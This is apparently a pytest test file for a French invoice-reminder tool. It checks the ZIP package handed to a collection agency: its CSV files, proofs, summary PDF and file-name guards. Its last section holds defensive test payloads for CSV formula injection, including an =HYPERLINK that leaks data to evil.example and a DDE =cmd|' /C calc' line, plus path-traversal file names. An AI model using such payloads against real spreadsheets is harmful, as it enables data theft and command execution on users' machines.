"""The agency hand-off package (render/handoff.py): the ZIP, its CSV files, proofs and summary PDF."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import zipfile
from typing import Any

import pytest

from letters import AS_OF, D, agency_package, context, flat, invoice, pdf_info, pdf_to_text, poppler
from relance.render.handoff import reminder_rows


def history(**kw: Any) -> dict[str, Any]:
    row = {"run_id": "r", "timestamp": "2026-10-08T09:00:00+02:00", "action_key": "k", "customer_id": "C042",
           "invoice_ids": ("F-2026-101",), "scenario": "standard", "step": "reminder_1", "channel": "email",
           "recipient": "claire@martin.example", "status": "sent", "message_id": "<k@dupont.example>",
           "amount_due": D("1500.00"), "currency": "EUR", "detail": ""}
    row.update(kw)
    return row


HISTORY = [
    history(timestamp="2026-11-18T09:00:00+01:00", action_key="k3", step="formal_notice", channel="letter",
            recipient="Boulangerie Martin", message_id="<file:C042_formal_notice_k3.pdf>",
            invoice_ids="F-2026-101;F-2026-102", amount_due=D("3400.00")),
    history(timestamp="2026-10-08T07:00:00Z", action_key="k1", status="opened"),
    history(timestamp="2026-10-22T09:00:00+02:00", action_key="k2", step="reminder_2", channel="sms",
            recipient="+33600000000", status="delivered", message_id="sms-2",
            invoice_ids=["F-2026-101", "F-2026-102"], amount_due=D("3400.00")),
    history(action_key="k4", status="failed"),
    history(action_key="k5", status="pending"),
    history(action_key="k6", status="skipped"),
    history(action_key="k7", channel="call", status="created", recipient=""),
    history(action_key="k8", customer_id="C999"),
]
PROOFS = {"outbox/C042_reminder_1_k1.eml": b"From: compta@dupont.example\r\n\r\nBonjour\r\n",
          "C042_formal_notice_k3.pdf": b"%PDF-1.4\n% the letter\n"}
CUSTOMER = {"id": "C042", "name": "Boulangerie Martin", "contact_name": "Claire Martin", "type": "B2B",
            "email": "claire@martin.example", "phone": "04 72 00 00 00", "address": "12 rue des Lilas",
            "postal_code": "69003", "city": "Lyon", "country": "France"}
COMPANY = {"name": "Atelier Dupont SARL", "email": "compta@dupont.example"}


def package(customer: dict[str, Any] = CUSTOMER, lang: str = "fr", **kw: Any) -> zipfile.ZipFile:
    ctx = context(b2b=customer.get("type") != "B2C")
    paid = invoice("F-2026-090", dt.date(2026, 8, 1), dt.date(2026, 9, 1), "300.00", "0.00", "0.00")
    data = agency_package(customer, [paid, *ctx["invoices"]], HISTORY, PROOFS, AS_OF, lang,
                          company=COMPANY, **kw)
    return zipfile.ZipFile(io.BytesIO(data))


def read_csv(archive: zipfile.ZipFile, name: str) -> list[list[str]]:
    data = archive.read(name)
    assert data.startswith(codecs.BOM_UTF8)
    assert b"\r\n" in data
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_package_members_dates_and_proofs() -> None:
    archive = package()
    assert archive.namelist() == ["dossier.csv", "preuves/C042_formal_notice_k3.pdf",
                                  "preuves/C042_reminder_1_k1.eml", "relances.csv", "synthese.pdf"]
    assert archive.testzip() is None
    for info in archive.infolist():
        assert info.date_time == (2026, 11, 23, 0, 0, 0)
        assert info.compress_type == zipfile.ZIP_DEFLATED
    assert archive.read("preuves/C042_reminder_1_k1.eml") == PROOFS["outbox/C042_reminder_1_k1.eml"]
    assert archive.read("preuves/C042_formal_notice_k3.pdf") == PROOFS["C042_formal_notice_k3.pdf"]


def test_dossier_csv_french() -> None:
    rows = read_csv(package(), "dossier.csv")
    assert rows[0] == ["N° facture", "Date facture", "Échéance", "Montant TTC", "Solde dû", "Devise",
                       "Jours de retard", "Pénalités de retard", "Indemnité forfaitaire (EUR)"]
    assert rows[1:] == [  # the settled F-2026-090 is not there
        ["F-2026-101", "2026-09-01", "2026-10-01", "1500,00", "1500,00", "EUR", "53", "12,34", "40,00"],
        ["F-2026-102", "2026-09-15", "2026-10-15", "2400,00", "1900,00", "EUR", "39", "9,60", "40,00"],
    ]


def test_dossier_csv_english_and_consumer() -> None:
    consumer = dict(CUSTOMER, name="Claire Martin", type="B2C")
    rows = read_csv(package(consumer, "en"), "dossier.csv")
    assert rows[0][:4] == ["Invoice no.", "Invoice date", "Due date", "Amount"]
    assert rows[1] == ["F-2026-101", "2026-09-01", "2026-10-01", "1500.00", "1500.00", "EUR", "53", "", ""]


def test_relances_csv_lists_what_went_out_oldest_first() -> None:
    rows = read_csv(package(), "relances.csv")
    assert rows[0] == ["Date", "Horodatage", "Canal", "Étape", "Destinataire", "Statut",
                       "Identifiant du message", "Factures", "Montant réclamé", "Devise"]
    assert rows[1:] == [
        ["2026-10-08", "2026-10-08T07:00:00Z", "e-mail", "Relance amiable", "claire@martin.example", "ouvert",
         "<k@dupont.example>", "F-2026-101", "1500,00", "EUR"],
        ["2026-10-22", "2026-10-22T09:00:00+02:00", "SMS", "Deuxième relance", "+33600000000", "délivré",
         "sms-2", "F-2026-101, F-2026-102", "3400,00", "EUR"],
        ["2026-11-18", "2026-11-18T09:00:00+01:00", "courrier", "Mise en demeure", "Boulangerie Martin", "envoyé",
         "<file:C042_formal_notice_k3.pdf>", "F-2026-101, F-2026-102", "3400,00", "EUR"],
    ]


def test_reminder_rows_order_across_offsets() -> None:
    rows = reminder_rows([history(timestamp="2026-10-08T09:30:00+02:00", action_key="b"),
                          history(timestamp="2026-10-08T08:00:00Z", action_key="a")])
    assert [r["action_key"] for r in rows] == ["b", "a"]  # 07:30 UTC before 08:00 UTC


@poppler
def test_summary_pdf() -> None:
    archive = package()
    pdf = archive.read("synthese.pdf")
    assert pdf_info(pdf)["Pages"] == "1"
    text = flat(pdf_to_text(pdf, "-layout"))
    for part in ("Dossier de recouvrement – Boulangerie Martin", "Situation au 23 novembre 2026",
                 "Créancier Atelier Dupont SARL", "Débiteur Boulangerie Martin", "Code client C042",
                 "Professionnel (B2B)", "Contact Claire Martin", "Adresse 12 rue des Lilas, 69003 LYON",
                 "EUR 2 3 400,00 € 21,94 € 80,00 € 3 501,94 €",
                 "Plus ancienne échéance impayée : 1er octobre 2026 (53 jours de retard)",
                 "1er octobre 2031 (5 ans, art. L110-4 C. com.)", "L441-10", "D441-5",
                 "08/10/2026 e-mail Relance amiable claire@martin.example ouvert",
                 "22/10/2026 SMS Deuxième relance +33600000000 délivré",
                 "18/11/2026 courrier Mise en demeure Boulangerie Martin envoyé",
                 "C042_formal_notice_k3.pdf, C042_reminder_1_k1.eml"):
        assert part in text, part
    assert "appel" not in text


@poppler
def test_summary_pdf_consumer_english_and_a_long_history() -> None:
    consumer = dict(CUSTOMER, name="Claire Martin", type="B2C")
    ctx = context(b2b=False)
    many = [history(timestamp=f"2026-{m:02d}-{d:02d}T09:00:00+01:00", action_key=f"k{m}{d}")
            for m in (9, 10, 11) for d in range(1, 13)]
    data = agency_package(consumer, ctx["invoices"], many, {}, AS_OF, "en")
    pdf = zipfile.ZipFile(io.BytesIO(data)).read("synthese.pdf")
    assert pdf_info(pdf)["Pages"] == "1"
    text = flat(pdf_to_text(pdf, "-layout"))
    assert "Consumer (B2C)" in text and "no late-payment interest and no fixed indemnity" in text
    assert "EUR 2 €3,400.00 €3,400.00" in text
    assert "(2 years, art. L218-2 French Consumer Code)" in text
    assert "18 earlier reminders are listed in relances.csv" in text
    assert "12 Nov 2026" in text and "1 Sept 2026" not in text  # the latest are shown
    assert "No proof attached." in text


def test_package_is_deterministic_and_guards_proof_names() -> None:
    ctx = context()
    first = agency_package(CUSTOMER, ctx["invoices"], HISTORY, PROOFS, AS_OF, company=COMPANY)
    assert first == agency_package(CUSTOMER, ctx["invoices"], list(reversed(HISTORY)),
                                   dict(reversed(PROOFS.items())), AS_OF, company=COMPANY)
    assert first != agency_package(CUSTOMER, ctx["invoices"], HISTORY, PROOFS, AS_OF + dt.timedelta(days=1),
                                   company=COMPANY)
    with pytest.raises(ValueError, match="not a file name"):
        agency_package(CUSTOMER, ctx["invoices"], [], {"../..": b""}, AS_OF)
    with pytest.raises(ValueError, match="two proofs"):
        agency_package(CUSTOMER, ctx["invoices"], [], {"a/x.eml": b"1", "b/x.eml": b"2"}, AS_OF)
    names = zipfile.ZipFile(io.BytesIO(
        agency_package(CUSTOMER, ctx["invoices"], [], {"..\\..\\evil.eml": b"x"}, AS_OF))).namelist()
    assert "preuves/evil.eml" in names


# --------------------------------------------------------------------------- no formula in a CSV

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")', "@SUM(1+1)", "+1+1", "-1+1",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def hostile_package() -> zipfile.ZipFile:
    items = [invoice(iid, dt.date(2026, 9, 1), dt.date(2026, 12, 1), "100.00", "100.00", "-12.50")
             for iid in HOSTILE]  # not yet due: -8 days past due; a negative penalty, for the figure
    rows = [history(action_key=f"h{i}", recipient=text, step=text, message_id=text, invoice_ids=[text])
            for i, text in enumerate(HOSTILE)]
    data = agency_package(CUSTOMER, items, rows, {}, AS_OF, "fr", company=COMPANY)
    return zipfile.ZipFile(io.BytesIO(data))


def test_no_csv_cell_starts_like_a_formula_and_figures_stay_numbers() -> None:
    archive = hostile_package()
    dossier = read_csv(archive, "dossier.csv")
    assert sorted(row[0] for row in dossier[1:]) == sorted("'" + text for text in HOSTILE)
    assert {(row[6], row[7]) for row in dossier[1:]} == {("-8", "-12,50")}  # numbers, minus sign kept
    relances = read_csv(archive, "relances.csv")
    for row in relances[1:]:
        assert row[3].startswith("'") and row[4].startswith("'") and row[6].startswith("'") and row[7].startswith("'")
    for name in ("dossier.csv", "relances.csv"):
        for row in read_csv(archive, name):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not (
                    cell.startswith("-") and not cell[1:].replace(",", "").isdigit()), (name, cell)


@pytest.mark.slow
def test_libreoffice_reads_the_hostile_cells_as_text(tmp_path) -> None:
    import shutil
    import subprocess

    import openpyxl

    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed (make test installs it)")
    archive = hostile_package()
    for name in ("dossier.csv", "relances.csv"):
        (tmp_path / name).write_bytes(archive.read(name))
    # ';' separated, '"' quoted, UTF-8, from line 1, French, *evaluate formulas*: the worst case
    # (without the quote, LibreOffice makes =HYPERLINK(…) and =cmd|… formulas)
    options = "CSV:59,34,76,1,,1036,false,false,false,false,false,-1,true"
    done = subprocess.run(
        [soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/lo-profile",
         f"--infilter={options}", "--convert-to", "xlsx", "--outdir", str(tmp_path / "out"),
         str(tmp_path / "dossier.csv"), str(tmp_path / "relances.csv")],
        capture_output=True, text=True, timeout=240,
    )
    assert done.returncode == 0, done.stderr
    dossier = openpyxl.load_workbook(tmp_path / "out" / "dossier.xlsx").active
    cells = [c for row in dossier.iter_rows() for c in row if c.value is not None]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    ids = sorted(row[0].value for row in dossier.iter_rows(min_row=2))
    assert ids == sorted("'" + text.replace("\r", "\n") for text in HOSTILE)  # text, quote shown (CR read as LF)
    figures = [(row[6].value, row[7].value) for row in dossier.iter_rows(min_row=2)]
    assert set(figures) == {(-8, -12.5)}  # numbers, not text
    relances = openpyxl.load_workbook(tmp_path / "out" / "relances.xlsx").active
    assert not [c.coordinate for row in relances.iter_rows() for c in row if c.data_type == "f"]
    assert all(str(row[4].value).startswith("'") for row in relances.iter_rows(min_row=2))


@poppler
def test_the_summary_names_the_creditor_by_its_reply_address() -> None:
    company = {"name": "Atelier Dupont SARL", "email": "envoi@dupont.example", "reply_to": "compta@dupont.example"}
    data = agency_package(CUSTOMER, context()["invoices"], [], {}, AS_OF, "fr", company=company)
    text = flat(pdf_to_text(zipfile.ZipFile(io.BytesIO(data)).read("synthese.pdf")))
    assert "Créancier Atelier Dupont SARL – compta@dupont.example" in text and "envoi@" not in text
